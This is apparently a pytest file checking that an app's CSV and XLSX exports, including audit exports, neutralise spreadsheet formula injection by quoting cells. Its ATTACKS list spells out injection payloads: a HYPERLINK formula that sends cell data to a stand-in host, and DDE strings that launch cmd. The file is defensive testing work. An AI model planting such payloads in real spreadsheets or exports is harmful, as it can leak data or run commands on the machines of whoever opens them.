"""Formula injection (issue 13, item 4): text that a spreadsheet would run as a formula comes
out of every CSV and XLSX export quoted with a leading ', and XLSX text cells are strings."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from api.audit import record_audit
from api.exports import csv_bytes, neutralise, table_response
from models.enums import Role
from tests.conftest import FIXED_NOW, TokenFor
from tests.factories import make_branch, make_user
from tests.node import PWA_SRC, compile_ts, needs_node, run_node

API = "/api/v1"
ATTACKS = [
    '=HYPERLINK("http://x/?d="&A1,"y")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(content: bytes | memoryview) -> list[list[str]]:
    return list(csv.reader(io.StringIO(bytes(content).decode("utf-8-sig"))))


def xlsx_cells(content: bytes | memoryview) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def assert_text_cell(cell: Any, attack: str) -> None:
    assert cell.data_type == "s", (cell.value, cell.data_type)
    assert cell.value == "'" + attack.replace("\r", "\n")  # XML reads a CR as a LF


@pytest.mark.parametrize("attack", ATTACKS)
def test_neutralise_quotes_formula_triggers(attack: str) -> None:
    assert neutralise(attack) == "'" + attack
    assert neutralise("张三") == "张三"
    assert neutralise(-5) == -5 and neutralise(None) is None
    assert neutralise("'=already") == "'=already"


def test_table_response_csv_and_xlsx() -> None:
    rows = [{"name": attack, "n": -1} for attack in ATTACKS]
    columns = [("name", "姓名"), ("n", "数")]
    as_csv = read_csv(table_response(rows, columns, filename="t", fmt="csv").body)
    assert [line[0] for line in as_csv[1:]] == ["'" + a for a in ATTACKS]
    assert [line[1] for line in as_csv[1:]] == ["-1"] * len(ATTACKS)  # numbers stay numbers
    cells = xlsx_cells(table_response(rows, columns, filename="t", fmt="xlsx").body)
    for row, attack in zip(cells[1:], ATTACKS, strict=True):
        assert_text_cell(row[0], attack)
        assert row[1].data_type == "n" and row[1].value == -1
    assert csv_bytes(["a"], [["=1"]]).decode("utf-8-sig") == "a\r\n'=1\r\n"


def test_xlsx_drops_control_characters_instead_of_failing() -> None:
    body = table_response([{"a": "张\x01三"}], [("a", "A")], filename="t", fmt="xlsx").body
    assert xlsx_cells(body)[1][0].value == "张三"


def test_audit_export_csv_quotes_hostile_text(
    app: FastAPI, client: TestClient, session: Session, auth_headers: TokenFor
) -> None:
    branch = make_branch(session)
    manager = make_user(session, branch, role=Role.manager)
    for attack in ATTACKS:
        record_audit(
            session,
            at=FIXED_NOW,
            action="thing.done",
            entity="thing",
            entity_id=attack,
            branch_id=branch.id,
        )
    response = client.get(
        f"{API}/audit/export",
        params={"from": "2026-11-23", "to": "2026-11-23"},
        headers=auth_headers(manager.username),
    )
    assert response.status_code == 200, response.text
    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    entity_ids = [row["entity_id"] for row in table if row["action"] == "thing.done"]
    assert entity_ids == ["'" + a for a in ATTACKS]


CONSOLE_EXPORT = PWA_SRC / "console" / "export.ts"
WRITE_XLSX = """
const {toXlsx} = require("./export.js");
const attacks = require("./attacks.json");
const bytes = toXlsx("Borrowers", ["name", "n"], attacks.map((a) => [a, -1]));
require("fs").writeFileSync("out.xlsx", Buffer.from(bytes));
"""


@needs_node
def test_console_xlsx_reads_back_as_text(tmp_path: Path) -> None:
    """The console's own XLSX (pwa/src/console/export.ts), read back by openpyxl."""
    compile_ts(CONSOLE_EXPORT, tmp_path)
    run_node(WRITE_XLSX, tmp_path, attacks=ATTACKS)
    cells = xlsx_cells((tmp_path / "out.xlsx").read_bytes())
    for row, attack in zip(cells[1:], ATTACKS, strict=True):
        assert_text_cell(row[0], attack)
        assert row[1].data_type == "n" and row[1].value == -1
